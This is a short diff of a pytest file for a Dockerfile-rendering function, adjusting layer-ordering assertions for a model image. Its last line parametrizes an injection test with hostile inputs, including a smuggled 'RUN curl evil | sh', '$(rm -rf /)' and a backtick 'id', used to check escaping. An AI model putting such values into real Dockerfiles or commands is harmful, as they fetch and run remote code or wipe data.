@@ -44,7 +44,8 @@ def test_layers_are_ordered_slowest_first():
     text = render_dockerfile("runtime", **CASES["runtime"])
     assert text.index("layers/00-torch") < text.index("layers/01-rest") < text.index("COPY --chown=0:0 swcli/")
     model = render_dockerfile("model", **CASES["model"])
-    assert model.index("COPY --chown=0:0 weights/") < model.index("COPY --chown=0:0 code/") < model.index("COPY --chown=0:0 meta/")
+    assert model.index("COPY --chown=0:0 weights/") < model.index("COPY --chown=0:0 model/ /opt/swcli/model/")
+    assert "code/" not in model and "meta/" not in model
 
 
 @pytest.mark.parametrize("evil", ['x"\nRUN curl evil | sh\nLABEL a="', "$(rm -rf /)", "a\\\nRUN x", "`id`"])
